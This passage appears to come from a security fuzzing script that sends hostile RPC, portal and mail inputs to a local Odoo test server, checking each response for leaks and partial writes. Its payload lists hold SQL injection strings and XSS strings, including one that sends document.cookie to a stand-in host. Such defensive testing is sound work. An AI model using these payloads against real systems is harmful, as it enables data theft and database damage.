"""Hostile input against a real Odoo server: JSON-RPC, the portal and the mail gateway (issue 10, item 4).

Steps (``make fuzz``, or ``.venv/bin/python benchmarks/fuzz.py``):

1. ``--source`` (default sales_admin_demo, a database with the addon and demo data) is copied to ``--database``
   (default sales_admin_fuzz; dropped first) and ``benchmarks/fuzz_setup.py`` runs in ``odoo-bin shell`` there: two
   companies, each with two customers (a portal login each), an order, a visit, a ticket, a reception entry, a
   collection case, a target and a segment, and one user per group of the app (Sales Admin manager and user,
   salesperson, billing, receptionist) restricted to their company. ``--reuse`` keeps a database already set up.
2. Odoo is started on it (``--workers 2``, no cron, ``--http-port``, default 8284) and every user logs in.
3. The calls are generated from ``--seed`` (the same seed gives the same calls) and sent one by one:
   - ``rpc``: ``/web/dataset/call_kw`` and ``/jsonrpc`` ``execute_kw``: ``search_read``, ``read``, ``create`` and
     ``write`` on our models (and our fields on Odoo's), every public method of ours that
     tests/test_rpc_access.py ``PUBLIC_METHODS`` lists as ``company`` or ``open``, and our wizards (created with
     hostile values, then run);
   - ``portal``: /my/requests (list, page, sorting), /my/requests/<id> (own, another customer's, another company's,
     nonexistent, wrong token) and the new-request form (hostile posts, missing and wrong CSRF tokens);
   - ``mail``: raw e-mails to the requests alias through ``mail.thread.message_process`` over JSON-RPC (what
     odoo-mailgate.py does): huge subjects, script bodies, broken headers, unknown senders, replies quoting another
     company's ticket;
   with payloads of these kinds: wrong types, 1 MB strings, other companies' and other customers' ids, nonexistent
   ids, SQL injection in domains, fields, order and values, HTML/script, missing required values, impossible dates,
   negative/NaN/infinite numbers, unknown selection values, CSRF.
4. Each response is classified: ``ok``; ``refused`` (an Odoo user-facing exception with a message, or an HTTP 303
   /400/403/404, or the portal form showing its errors); ``core_refused`` (Odoo's own ORM or HTTP layer refusing
   with a ValueError/TypeError/... that has a message and no frame of our addon in its traceback);
   ``server_error`` (HTTP 500, or any other exception: psycopg2 errors, errors without a message, or raised
   from our addon). After each call a fingerprint of the touched tables (row count and latest write_date) is taken:
   a refused call that changed it is a partial write. Reads of another company's or customer's records must be
   refused or empty, and portal pages must not show another customer's ticket. At the end the stored HTML of our
   models and of the messages is searched for scripts.

Results: a JSON file (``--out``) with every call and its outcome, and a Markdown summary on stdout. Exit code 1
when there is a server error, a partial write or a leak.
"""

import argparse
import ast
import collections
import json
import os
import random
import re
import subprocess
import sys
import time
from pathlib import Path

import lxml.etree
import lxml.html
import psycopg2
import requests
from _common import _env_sh_odoo_args

REPO_ROOT = Path(__file__).resolve().parent.parent
ODOO_SRC = os.environ.get("ODOO_SRC", "/opt/odoo/18.0")
VENV_PYTHON = os.environ.get("VENV_PYTHON") or str(Path(os.environ.get("VENV", REPO_ROOT / ".venv")) / "bin" / "python")
DATA_DIR = os.environ.get("DATA_DIR") or str(Path(os.environ.get("STATE_DIR", REPO_ROOT / ".odoo")) / "data")
MB = 1024 * 1024

USER_FACING = {
    "odoo.exceptions.UserError",
    "odoo.exceptions.ValidationError",
    "odoo.exceptions.AccessError",
    "odoo.exceptions.MissingError",
    "odoo.exceptions.AccessDenied",
    "odoo.exceptions.RedirectWarning",
}
# Odoo's own refusals of malformed calls (ORM domain/field parsing, dispatch): not user-facing classes, but with a
# message; they count as core_refused only when our addon has no frame in the traceback
CORE_REFUSAL_CLASSES = {"builtins.ValueError", "builtins.TypeError", "builtins.AttributeError", "builtins.KeyError"}
ADDON_FRAME = re.compile(r'File "[^"]*/sales_admin_addon/[^"]+", line \d+')

# the tables a call of ours may write: a fingerprint of them is taken after every call
FINGERPRINT_PREFIXES = (
    "sales_admin_",
    "mail_message",
    "mail_followers",
    "mail_activity",
    "mail_mail",
    "mail_notification",
    "mail_tracking_value",
    "sale_order",
    "res_partner",
    "account_move",
    "calendar_event",
    "calendar_attendee",
    "mailing_",
    "survey_user_input",
    "stock_picking",
    "stock_move",
    "ir_attachment",
    "res_users",
)
FINGERPRINT_SKIP = {"res_users_log", "res_users_settings", "res_users_apikeys", "res_users_deletion"}

# our models (and Odoo's we extend) fuzzed through create/write/search_read/read
CRUD_MODELS = [
    "sales_admin.ticket",
    "sales_admin.visit",
    "sales_admin.reception",
    "sales_admin.collection.case",
    "sales_admin.target",
    "sales_admin.segment",
    "sale.order",
    "res.partner",
]
# setup key of the records of each model (per customer, or per company)
RECORD_KEYS = {
    "sales_admin.ticket": "ticket",
    "sales_admin.visit": "visit",
    "sales_admin.reception": "reception",
    "sales_admin.collection.case": "case",
    "sale.order": "order",
    "sale.order.line": "order_line",
    "res.partner": "partner",
}
COMPANY_RECORD_KEYS = {"sales_admin.target": "target", "sales_admin.segment": "segment"}
WIZARDS = {
    "sales_admin.ticket.log.call": "action_log_call",
    "sales_admin.collection.log.call": "action_log_call",
    "sales_admin.collection.promise": "action_record_promise",
    "sales_admin.reception.link": "action_link",
    "sales_admin.target.copy": "action_copy",
    "sales_admin.segment.mailing": "action_create_mailing",
    "sales_admin.segment.survey": "action_send",
    "sales_admin.postal.campaign": "action_print",
}
# the many2one/many2many fields of the wizards that pick the records they act on
WIZARD_RECORDS = {
    "sales_admin.ticket.log.call": {"partner_id": "partner"},
    "sales_admin.collection.log.call": {"case_id": "case"},
    "sales_admin.collection.promise": {"case_id": "case"},
    "sales_admin.reception.link": {"reception_id": "reception", "partner_id": "partner"},
    "sales_admin.target.copy": {"target_ids": "target"},
    "sales_admin.segment.mailing": {"segment_id": "segment"},
    "sales_admin.segment.survey": {"segment_id": "segment"},
    "sales_admin.postal.campaign": {"segment_id": "segment"},
}
KINDS = [
    "wrong_type",
    "huge_string",
    "other_company_id",
    "other_customer_id",
    "nonexistent_id",
    "sql_injection",
    "html_script",
    "missing_required",
    "impossible_date",
    "bad_number",
    "bad_selection",
]
SQLI = [
    "x' OR '1'='1",
    "'; DROP TABLE sales_admin_ticket; --",
    "1); DELETE FROM res_partner; --",
    "' UNION SELECT login, password FROM res_users --",
    "\\'; SELECT pg_sleep(5); --",
]
SCRIPTS = [
    "<script>alert('fuzz')</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(2)">click</a>',
    '<iframe src="https://evil.example"></iframe><svg onload=alert(3)>',
    '"><script>document.location="https://evil.example/?"+document.cookie</script>',
]
SCRIPT_MARKERS = ["<script", "onerror=", "javascript:", "<iframe", "onload="]
BAD_DATES = ["2026-02-30", "0000-01-01", "9999-99-99", "2026-13-45 25:61:61", "-0001-01-01", "tomorrow", ""]
BAD_NUMBERS = [float("nan"), float("inf"), float("-inf"), -1e308, 2**63, -(2**31) - 1, -1, "NaN", "1e999"]
BIG_ID = 2147483647


def sql(db, query, params=None):
    with psycopg2.connect(dbname=db) as conn, conn.cursor() as cr:
        cr.execute(query, params)
        return cr.fetchall() if cr.description else None


def prepare_database(args):
    subprocess.run(["dropdb", "--if-exists", args.database], check=True)
    if sql("postgres", "SELECT 1 FROM pg_database WHERE datname = %s", (args.source,)):
        subprocess.run(["createdb", "-T", args.source, args.database], check=True)
    else:
        # no demo database to copy: install the addon with its demo data
        subprocess.run(["createdb", args.database], check=True)
        subprocess.run(
            [
                VENV_PYTHON,
                f"{ODOO_SRC}/odoo-bin",
                *_env_sh_odoo_args(),
                "-d",
                args.database,
                "-i",
                "sales_admin_addon",
                "--stop-after-init",
                "--no-http",
                "--log-level=warn",
            ],
            check=True,
        )
    env = dict(os.environ, FUZZ_SETUP_OUT=args.setup_file)
    with open(REPO_ROOT / "benchmarks" / "fuzz_setup.py", "rb") as script:
        subprocess.run(
            [
                VENV_PYTHON,
                f"{ODOO_SRC}/odoo-bin",
                "shell",
                *_env_sh_odoo_args(),
                "-d",
                args.database,
                "--no-http",
                "--log-level=warn",
            ],
            stdin=script,
            env=env,
            check=True,
        )


def start_server(args):
    log = open(args.server_log, "w", encoding="utf-8")  # noqa: SIM115 (closed with the server)
    proc = subprocess.Popen(
        [
            VENV_PYTHON,
            f"{ODOO_SRC}/odoo-bin",
            *_env_sh_odoo_args(),
            "-d",
            args.database,
            f"--db-filter=^{args.database}$",
            f"--http-port={args.port}",
            f"--gevent-port={args.port + 1000}",
            "--http-interface=127.0.0.1",
            f"--workers={args.workers}",
            "--max-cron-threads=0",
            "--limit-time-real=300",
            "--limit-time-cpu=240",
            "--limit-memory-soft=2147483648",
            "--limit-memory-hard=2684354560",
            "--log-level=warn",
        ],
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    url = f"http://127.0.0.1:{args.port}"
    for _ in range(120):
        try:
            if requests.get(f"{url}/web/health", timeout=2).status_code == 200:
                return proc, url
        except requests.RequestException:
            pass
        time.sleep(1)
    proc.terminate()
    sys.exit("the Odoo server did not start: see " + args.server_log)


def valid_ids(args):
    """Whether the first argument of a method call is a list of integer ids (or absent)."""
    if not args:
        return True
    ids = args[0]
    return isinstance(ids, list) and all(isinstance(i, int) and not isinstance(i, bool) for i in ids)


class Client:
    """One user's HTTP session: JSON-RPC through call_kw (session) and /jsonrpc (login and password)."""

    def __init__(self, url, db, login, info):
        self.url, self.db, self.login = url, db, login
        self.password, self.uid = info["password"], info["uid"]
        self.role, self.company = info["role"], info["company"]
        self.http = requests.Session()
        if login != "anonymous":
            response = self.post_json(
                "/web/session/authenticate", {"db": db, "login": login, "password": self.password}
            )
            if "error" in response.json():
                sys.exit(f"{login} cannot log in: {response.text[:300]}")

    def post_json(self, path, params):
        body = json.dumps({"jsonrpc": "2.0", "method": "call", "id": 1, "params": params})  # NaN/inf allowed
        return self.http.post(self.url + path, data=body, headers={"Content-Type": "application/json"}, timeout=600)

    def rpc(self, channel, model, method, args, kwargs):
        if channel == "call_kw":
            path = f"/web/dataset/call_kw/{model}/{method}"
            params = {"model": model, "method": method, "args": args, "kwargs": kwargs}
        else:
            path = "/jsonrpc"
            params = {
                "service": "object",
                "method": "execute_kw",
                "args": [self.db, self.uid, self.password, model, method, args, kwargs],
            }
        return self.post_json(path, params)


FRAME = re.compile(r'File "([^"]+)", line (\d+), in (\S+)')


def origin_of(debug):
    """Where an unexpected exception comes from: ``addon`` (raised by our code, or by Odoo on values our code
    computed), ``core`` (no frame of ours), ``core via super()`` (raised under our override's ``super()`` call, on
    the caller's values: what Odoo does without our addon too), with the frames."""
    frames = FRAME.findall(debug)
    ours = [frame for frame in frames if "/sales_admin_addon/" in frame[0]]
    if not ours:
        return "core", frames[-1] if frames else ("", "", "")
    path, line, function = ours[-1]
    try:
        source = Path(path).read_text(encoding="utf-8").splitlines()[int(line) - 1]
    except (OSError, IndexError, ValueError):
        source = ""
    return ("core via super()" if "super()" in source else "addon"), (Path(path).name, line, function)


def classify_rpc(response):
    """(outcome, exception name, message, result, origin)."""
    if response.status_code >= 500:
        return "server_error", f"HTTP {response.status_code}", response.text[:300], None, "http"
    try:
        payload = response.json()
    except ValueError:
        return "server_error", f"HTTP {response.status_code} not JSON", response.text[:300], None, "http"
    if "error" not in payload:
        return "ok", "", "", payload.get("result"), ""
    data = payload["error"].get("data") or {}
    name, message, debug = data.get("name", ""), (data.get("message") or "").strip(), data.get("debug") or ""
    if name in USER_FACING:
        if not message or message.startswith("Traceback"):
            return "unclear_refusal", name, message[:300] or "(empty message)", None, ""
        return "refused", name, message[:300], None, ""
    origin, frame = origin_of(debug)
    if name in CORE_REFUSAL_CLASSES and message and origin != "addon" and name == "builtins.ValueError":
        return "core_refused", name, message[:300], None, origin
    return "server_error", name, (message or "(no message)")[:300], None, f"{origin} {':'.join(frame)}"


class Fuzzer:
    def __init__(self, args, setup, url):
        self.args, self.setup, self.url, self.db = args, setup, url, args.database
        self.rng = random.Random(args.seed)
        self.results = []
        self.clients = {login: Client(url, self.db, login, info) for login, info in sorted(setup["users"].items())}
        self.admin = Client(url, self.db, "admin", {"password": "admin", "uid": 2, "role": "admin", "company": "A"})
        self.clients["anonymous"] = Client(
            url, self.db, "anonymous", {"password": "", "uid": 0, "role": "anonymous", "company": "A"}
        )
        self.fields = {}
        for model in CRUD_MODELS + list(WIZARDS):
            result = self.admin.rpc(
                "call_kw",
                model,
                "fields_get",
                [],
                {"attributes": ["type", "required", "readonly", "relation", "selection", "store"]},
            ).json()["result"]
            self.fields[model] = result
        self.tables = [
            (name, has_write_date)
            for name, has_write_date in sql(
                self.db,
                "SELECT t.tablename, bool_or(c.column_name = 'write_date') FROM pg_tables t "
                "JOIN information_schema.columns c ON c.table_name = t.tablename AND c.table_schema = 'public' "
                "WHERE t.schemaname = 'public' GROUP BY t.tablename ORDER BY t.tablename",
            )
            if name.startswith(FINGERPRINT_PREFIXES) and name not in FINGERPRINT_SKIP
        ]
        self.fingerprint_sql = " UNION ALL ".join(
            f"SELECT '{name}', count(*), {'max(write_date)::text' if wd else 'NULL'} FROM \"{name}\""
            for name, wd in self.tables
        )
        self.conn = psycopg2.connect(dbname=self.db)
        self.conn.autocommit = True
        self.last_fingerprint = self.fingerprint()
        self.started_at = sql(self.db, "SELECT now() AT TIME ZONE 'UTC'")[0][0]

    # ----------------------------------------------------------------------------------------------- helpers
    def fingerprint(self):
        with self.conn.cursor() as cr:
            cr.execute(self.fingerprint_sql)
            return {name: (count, wd) for name, count, wd in cr.fetchall()}

    def records(self, company, model):
        data = self.setup["companies"][company]
        if model in COMPANY_RECORD_KEYS:
            return [data[COMPANY_RECORD_KEYS[model]]]
        key = RECORD_KEYS.get(model)
        return [customer[key] for customer in data["customers"]] if key else []

    def customer_of(self, client):
        for customer in self.setup["companies"][client.company]["customers"]:
            if customer["portal_login"] == client.login:
                return customer
        return None

    def other(self, company):
        return "B" if company == "A" else "A"

    def record(self, call, client, outcome, exc, message, extra=None):
        after = self.fingerprint()
        changed = sorted(name for name in after if after[name] != self.last_fingerprint.get(name))
        self.last_fingerprint = after
        entry = {
            "n": len(self.results) + 1,
            **call,
            "user": client.login,
            "role": client.role,
            "company": client.company,
            "outcome": outcome,
            "exception": exc,
            "message": message,
            "changed": changed,
            "partial_write": bool(changed) and outcome != "ok",
            "leak": "",
        }
        entry.update(extra or {})
        self.results.append(entry)
        return entry

    def hostile_value(self, kind, model, fname, field, company):
        """A value of kind ``kind`` for field ``fname``, or None when the kind does not apply to its type."""
        ftype, rng = field["type"], self.rng
        other = self.other(company)
        if kind == "wrong_type":
            return rng.choice(
                {
                    "char": [{"$ne": 1}, [1, 2], 12345, True],
                    "text": [{"a": [1]}, 3.14],
                    "html": [["<p>"], {"x": 1}, 42],
                    "many2one": ["1 OR 1=1", [1], {"id": 1}, 1.5, "abc", True],
                    "many2many": ["1,2", [[99, 1]], [(6, 0, "x")], {"ids": [1]}, 7],
                    "one2many": ["x", [[0, 0, "not a dict"]], [[1, "x", {}]]],
                    "integer": ["ten", [1], {"n": 1}, 1.5],
                    "float": ["1,5", [1.0], {"f": 1}],
                    "monetary": ["12 PLN", [2]],
                    "boolean": ["yes", [True], {"b": 1}],
                    "date": [12345, True, [2026, 1, 1], {"y": 2026}],
                    "datetime": [1700000000, [2026], {"d": 1}],
                    "selection": [1, [1], {"s": 1}, True],
                }.get(ftype, [None])
            )
        if kind == "huge_string" and ftype in ("char", "text", "html"):
            return rng.choice(["A" * MB, "ż" * (MB // 2), "<p>" + "x" * MB + "</p>"])
        if kind == "html_script" and ftype in ("char", "text", "html"):
            return rng.choice(SCRIPTS)
        if kind == "sql_injection" and ftype in ("char", "text", "html", "selection", "many2one", "date"):
            return rng.choice(SQLI)
        if kind == "impossible_date" and ftype in ("date", "datetime"):
            return rng.choice(BAD_DATES)
        if kind == "bad_number" and ftype in ("integer", "float", "monetary", "many2one"):
            return rng.choice(BAD_NUMBERS)
        if kind == "bad_selection" and ftype == "selection":
            return rng.choice(["__evil__", "done' OR '1'='1", "", "DRAFT", "0" * 300])
        if kind == "nonexistent_id" and ftype in ("many2one", "many2many"):
            value = rng.choice([BIG_ID, -5, 0, 2**40])
            return value if ftype == "many2one" else [[6, 0, [value]]]
        if kind == "other_company_id" and ftype in ("many2one", "many2many"):
            relation = field.get("relation")
            ids = self.records(other, relation)
            if relation == "res.users":
                ids = [
                    info["uid"]
                    for info in self.setup["users"].values()
                    if info["company"] == other and not info["role"].startswith("portal")
                ]
            if relation == "res.company":
                ids = [self.setup["companies"][other]["id"]]
            if not ids:
                return None
            value = rng.choice(ids)
            return value if ftype == "many2one" else [[6, 0, [value]]]
        return None

    def hostile_vals(self, kind, model, company, base):
        """Values for create/write: ``base`` plus one to three hostile values of ``kind``."""
        fields = self.fields[model]
        vals = dict(base)
        candidates = sorted(
            name
            for name, field in fields.items()
            if field.get("store", True)
            and not field.get("readonly")
            and name not in ("id", "display_name")
            and not name.startswith(("message_", "activity_", "website_message"))
        )
        self.rng.shuffle(candidates)
        for name in candidates:
            value = self.hostile_value(kind, model, name, fields[name], company)
            if value is not None:
                vals[name] = value
                if len(vals) - len(base) >= self.rng.choice([1, 1, 2, 3]):
                    break
        return vals if len(vals) > len(base) else None

    def base_vals(self, model, company):
        """Valid values for a new record of ``model`` in ``company`` (for hostile additions)."""
        data = self.setup["companies"][company]
        customer = data["customers"][0]
        return {
            "sales_admin.ticket": {
                "title": "Fuzz",
                "partner_id": customer["partner"],
                "ticket_type_id": data["ticket_type"],
            },
            "sales_admin.visit": {"partner_id": customer["partner"]},
            "sales_admin.reception": {"visitor_name": "Fuzz visitor"},
            "sales_admin.collection.case": {"partner_id": customer["partner"]},
            "sales_admin.target": {"target_ordered": 10.0},
            "sales_admin.segment": {"name": "Fuzz segment"},
            "sale.order": {"partner_id": customer["partner"]},
            "res.partner": {"name": "Fuzz partner"},
        }[model]

    # ----------------------------------------------------------------------------------------------- RPC
    def send_rpc(self, call, client, model, method, args, kwargs, leak_check=None):
        channel = call["channel"]
        started = time.monotonic()
        try:
            response = client.rpc(channel, model, method, args, kwargs)
            outcome, exc, message, result, origin = classify_rpc(response)
        except requests.RequestException as error:
            outcome, exc, message, result, origin = "server_error", type(error).__name__, str(error)[:300], None, ""
        leak = leak_check(result) if (leak_check and outcome == "ok") else ""
        if (
            origin.startswith("addon")
            and method not in ("create", "search_read", "message_process")
            and not valid_ids(args[:1])
        ):
            # Odoo's dispatcher browses whatever ids it is given ("x", [1], None): the first query on them fails,
            # in any method (see the core control calls on sale.order.action_cancel/action_draft)
            origin = "core (ids not checked by the RPC dispatcher), in " + origin
        result_id = result if isinstance(result, int) and not isinstance(result, bool) else None
        if isinstance(result, list) and result and isinstance(result[0], int):
            result_id = result[0]
        return self.record(
            {**call, "model": model, "method": method},
            client,
            outcome,
            exc,
            message,
            {
                "seconds": round(time.monotonic() - started, 3),
                "leak": leak,
                "result_id": result_id,
                "origin": origin,
                "request": json.dumps([args, kwargs], default=str)[:400],
            },
        )

    def leak_in(self, foreign_ids):
        foreign = set(foreign_ids)

        def check(result):
            found = {row.get("id") for row in result} if isinstance(result, list) else set()
            found &= foreign
            return f"read foreign ids {sorted(found)}" if found else ""

        return check

    def foreign_ids(self, client, model):
        """The ids of ``model`` the client must not read: the other company's, and for portal users the other
        customers' too."""
        foreign = list(self.records(self.other(client.company), model))
        if client.role.startswith("portal"):
            own = self.customer_of(client)
            foreign += [
                customer[RECORD_KEYS[model]]
                for customer in self.setup["companies"][client.company]["customers"]
                if customer is not own and model in RECORD_KEYS
            ]
        return foreign

    def search_kwargs(self, kind, model, foreign):
        """The keyword arguments of a hostile search_read of kind ``kind``."""
        rng = self.rng
        domain, fields, order, limit = [], ["id", "display_name"], None, 80
        if kind in ("other_company_id", "other_customer_id"):
            domain = [("id", "in", foreign)]
        elif kind == "nonexistent_id":
            domain = [("id", "in", [BIG_ID, -1, 0])]
        elif kind == "sql_injection":
            choice = rng.randrange(6)
            if choice == 0:
                domain = [("display_name", "ilike", rng.choice(SQLI))]
            elif choice == 1:
                domain = [("id; DROP TABLE res_users; --", "=", 1)]
            elif choice == 2:
                order = rng.choice(
                    [
                        "id; DROP TABLE sales_admin_ticket",
                        "(SELECT pg_sleep(5))",
                        "id desc, (select 1)",
                        'name COLLATE "C"; --',
                    ]
                )
            elif choice == 3:
                fields = ["id", "name); DROP TABLE res_partner; --"]
            elif choice == 4:
                domain = [("id", "in", "1) OR (1=1")]
            else:
                domain = ["|", ("id", "=", 1), "&", "!"]
        elif kind == "wrong_type":
            choice = rng.randrange(5)
            domain = ["not a domain", [[1, 2, 3, 4]], [("id", "=")], {"id": 1}, [("id", "in", {"a": 1})]][choice]
            limit = rng.choice([80, "ten", -1, [1]])
        elif kind == "huge_string":
            domain = [("display_name", "ilike", "A" * MB)]
        elif kind == "impossible_date":
            domain = [("create_date", ">", rng.choice(BAD_DATES))]
        elif kind == "bad_number":
            domain = [("id", ">", rng.choice(BAD_NUMBERS))]
            limit = rng.choice([80, float("inf"), -5, 2**63])
        elif kind == "html_script":
            domain = [("display_name", "=", rng.choice(SCRIPTS))]
        elif kind == "bad_selection":
            selections = [n for n, f in self.fields[model].items() if f["type"] == "selection"]
            domain = [(rng.choice(selections), "=", "__evil__")] if selections else [("id", "=", "__evil__")]
        else:  # missing_required
            domain = [("id", "in")]
        kwargs = {"domain": domain, "fields": fields, "limit": limit}
        if order is not None:
            kwargs["order"] = order
        return kwargs

    def crud_calls(self, client, model):
        rng, company = self.rng, client.company
        channel = rng.choice(["call_kw", "jsonrpc"])
        own = self.records(company, model)
        if client.role.startswith("portal") and model in RECORD_KEYS:
            own = [self.customer_of(client)[RECORD_KEYS[model]]]
        foreign = self.foreign_ids(client, model)
        op = rng.choice(["search_read", "search_read", "read", "create", "create", "write", "write"])
        kind = rng.choice(KINDS)
        call = {"channel": channel, "kind": kind, "op": op}
        if op == "search_read":
            kwargs = self.search_kwargs(kind, model, foreign)
            return self.send_rpc(call, client, model, "search_read", [], kwargs, leak_check=self.leak_in(foreign))
        if op == "read":
            if kind in ("other_company_id", "other_customer_id"):
                ids = foreign or [BIG_ID]
            elif kind == "nonexistent_id":
                ids = [BIG_ID, -1]
            elif kind == "wrong_type":
                ids = rng.choice([["x"], [[1]], [{"id": 1}], "1,2", [1.5]])
            elif kind == "sql_injection":
                ids = [rng.choice(SQLI)]
            else:
                ids = own
            fields = ["display_name"]
            if kind == "sql_injection" and rng.random() < 0.5:
                fields = ["id, (SELECT password FROM res_users LIMIT 1)"]
            return self.send_rpc(call, client, model, "read", [ids, fields], {}, leak_check=self.leak_in(foreign))
        if op == "create":
            base = self.base_vals(model, company)
            if kind == "missing_required":
                vals = rng.choice([{}, {"company_id": self.setup["companies"][company]["id"]}, {"active": True}])
            elif kind == "other_customer_id" and client.role.startswith("portal"):
                vals = dict(base, partner_id=rng.choice(foreign or [BIG_ID]))
            else:
                vals = self.hostile_vals(kind, model, company, base) or dict(
                    base, **{rng.choice(list(self.fields[model])): rng.choice(SQLI)}
                )
            many = rng.random() < 0.2
            return self.send_rpc(call, client, model, "create", [[vals, base] if many else vals], {})
        # write
        if kind in ("other_company_id", "other_customer_id") and foreign:
            ids = [rng.choice(foreign)]
            vals = self.hostile_vals("html_script", model, company, {}) or {"active": False}
        else:
            ids = own[:1] if own else [BIG_ID]
            if kind == "nonexistent_id" and rng.random() < 0.5:
                ids = [BIG_ID]
            if kind == "missing_required":
                required = [n for n, f in self.fields[model].items() if f.get("required") and not f.get("readonly")]
                vals = {rng.choice(required): False} if required else {"name": False}
            else:
                vals = self.hostile_vals(kind, model, company, {}) or {"display_name": rng.choice(SQLI)}
        return self.send_rpc(call, client, model, "write", [ids, vals], {})

    def method_calls(self, client, model, method):
        rng, company = self.rng, client.company
        kind = rng.choice(["other_company_id", "nonexistent_id", "wrong_type", "own", "own", "bad_number"])
        own = self.records(company, model)
        foreign = self.records(self.other(company), model)
        if kind == "other_company_id":
            ids = foreign[:1] or [BIG_ID]
        elif kind == "nonexistent_id":
            ids = [BIG_ID]
        elif kind == "wrong_type":
            ids = rng.choice([["x"], [[1]], "1", [None]])
        elif kind == "bad_number":
            ids = [rng.choice([float("nan"), -1, 1.5, float("inf")])]
        else:
            ids = own[:1] or [BIG_ID]
        kwargs = {}
        if method == "action_check_in" and model == "sales_admin.visit":
            kwargs = {"latitude": rng.choice([float("nan"), "north", 1e308, 91.0]), "longitude": -1e308}
        args = [ids]
        if method in ("get_cockpit_data", "get_dashboard_data"):
            args = []  # @api.model: no ids
            kwargs = {"scope": rng.choice(["all", "mine", "team", "'; DROP TABLE x; --", 5, ["all"], None])}
            kind = "sql_injection" if isinstance(kwargs["scope"], str) and ";" in kwargs["scope"] else kind
        call = {
            "channel": rng.choice(["call_kw", "jsonrpc"]),
            "kind": kind if kind != "own" else "own_record",
            "op": "method",
        }
        return self.send_rpc(call, client, model, method, args, kwargs)

    def wizard_calls(self, client, wizard):
        rng, company = self.rng, client.company
        kind = rng.choice(
            [
                "other_company_id",
                "nonexistent_id",
                "wrong_type",
                "huge_string",
                "html_script",
                "impossible_date",
                "bad_number",
                "missing_required",
                "own",
            ]
        )
        target = self.other(company) if kind == "other_company_id" else company
        vals = {}
        for fname, key in WIZARD_RECORDS[wizard].items():
            data = self.setup["companies"][target]
            value = data[key] if key in ("target", "segment") else data["customers"][0][key]
            if kind == "nonexistent_id":
                value = BIG_ID
            vals[fname] = [[6, 0, [value]]] if self.fields[wizard][fname]["type"] == "many2many" else value
        if kind == "missing_required":
            vals = {}
        elif kind not in ("other_company_id", "nonexistent_id", "own"):
            vals = self.hostile_vals(kind, wizard, company, vals) or vals
        call = {
            "channel": rng.choice(["call_kw", "jsonrpc"]),
            "kind": kind if kind != "own" else "own_record",
            "op": "wizard_create",
        }
        entry = self.send_rpc(call, client, wizard, "create", [vals], {})
        if entry["outcome"] == "ok":
            # the create answer is the id (call_kw) or [id]; run the wizard's action on it
            wizard_id = entry.get("result_id")
            call = dict(call, op="wizard_action")
            self.send_rpc(call, client, wizard, WIZARDS[wizard], [[wizard_id] if wizard_id else [BIG_ID]], {})

    # ----------------------------------------------------------------------------------------------- portal
    def portal_call(self, client, kind, method, path, data=None, leak_strings=(), expect_errors=False):
        started = time.monotonic()
        try:
            if method == "GET":
                response = client.http.get(self.url + path, allow_redirects=False, timeout=600)
            else:
                response = client.http.post(self.url + path, data=data, allow_redirects=False, timeout=600)
            status, body = response.status_code, response.text
        except requests.RequestException as error:
            status, body = 599, str(error)
        if status >= 500:
            outcome, message = "server_error", body[:300]
        elif status in (301, 302, 303):
            location = response.headers.get("Location", "")
            created = re.search(r"/my/requests/(\d+)", location)
            outcome = "ok" if (method == "POST" and created) else "refused"
            message = f"redirect to {location}"
        elif status in (400, 403, 404):
            outcome, message = "refused", f"HTTP {status}: " + re.sub(r"\s+", " ", re.sub("<[^>]+>", " ", body))[:150]
        elif status == 200 and expect_errors:
            shown = re.findall(r'class="[^"]*(?:invalid-feedback|alert-danger|text-danger)[^"]*"[^>]*>([^<]+)', body)
            outcome = "refused" if shown else "ok"
            message = "; ".join(s.strip() for s in shown)[:300]
        else:
            outcome, message = "ok", f"HTTP {status}"
        leaked = [s for s in leak_strings if s and s in body]
        return self.record(
            {"channel": "portal", "kind": kind, "op": f"{method} {path.split('?')[0][:60]}", "model": "", "method": ""},
            client,
            outcome,
            f"HTTP {status}",
            message,
            {"seconds": round(time.monotonic() - started, 3), "leak": f"page shows {leaked}" if leaked else ""},
        )

    def csrf_token(self, client):
        page = client.http.get(self.url + "/my/requests/new", timeout=600).text
        found = re.search(r'name="csrf_token"\s+value="([^"]+)"', page) or re.search(r'csrf_token:\s*"([^"]+)"', page)
        return found.group(1) if found else ""

    def portal_calls(self, client):
        rng = self.rng
        company, other = client.company, self.other(client.company)
        own = self.customer_of(client) or self.setup["companies"][company]["customers"][0]
        strangers = [c for c in self.setup["companies"][company]["customers"] if c is not own]
        strangers += self.setup["companies"][other]["customers"]
        if not client.role.startswith("portal"):
            strangers = self.setup["companies"][other]["customers"]
        # the fixtures' descriptions say "secret of customer A1": build those markers
        secrets = []
        for key in ("A", "B"):
            for index, customer in enumerate(self.setup["companies"][key]["customers"], start=1):
                if customer in strangers:
                    secrets.append(f"secret of customer {key}{index}")
        leak = [c["ticket_name"] for c in strangers] + secrets
        stranger = rng.choice(strangers)
        token = self.csrf_token(client) if client.login != "anonymous" else ""
        calls = [
            ("own_record", "GET", f"/my/requests/{own['ticket']}", None, False),
            ("other_customer_id", "GET", f"/my/requests/{stranger['ticket']}", None, False),
            (
                "other_company_id",
                "GET",
                f"/my/requests/{self.setup['companies'][other]['customers'][0]['ticket']}",
                None,
                False,
            ),
            ("nonexistent_id", "GET", f"/my/requests/{rng.choice([BIG_ID, 0, 2**40])}", None, False),
            (
                "wrong_type",
                "GET",
                f"/my/requests/{rng.choice(['abc', '1.5', '-1', '%00', '1%27%20OR%201=1'])}",
                None,
                False,
            ),
            (
                "other_customer_id",
                "GET",
                f"/my/requests/{stranger['ticket']}?access_token="
                + rng.choice(["wrong", "", own["ticket_token"], "' OR 1=1 --", "A" * 5000]),
                None,
                False,
            ),
            (
                "sql_injection",
                "GET",
                "/my/requests?sortby="
                + requests.utils.quote(rng.choice(SQLI))
                + "&filterby="
                + requests.utils.quote(rng.choice(SQLI)),
                None,
                False,
            ),
            ("bad_number", "GET", f"/my/requests/page/{rng.choice([0, 99999999, 2**40])}", None, False),
            ("huge_string", "GET", "/my/requests?filterby=" + "x" * rng.choice([5000, 60000]), None, False),
        ]
        orders_foreign = [stranger["order"], BIG_ID, "1 OR 1=1", -1]
        form_cases = [
            ("missing_required", {"title": "", "ticket_type_id": ""}),
            (
                "huge_string",
                {
                    "title": "T" * rng.choice([201, MB]),
                    "ticket_type_id": self.setup["companies"][company]["ticket_type"],
                },
            ),
            (
                "huge_string",
                {
                    "title": "Long",
                    "ticket_type_id": self.setup["companies"][company]["ticket_type"],
                    "description": "D" * MB,
                },
            ),
            (
                "html_script",
                {
                    "title": rng.choice(SCRIPTS),
                    "ticket_type_id": self.setup["companies"][company]["ticket_type"],
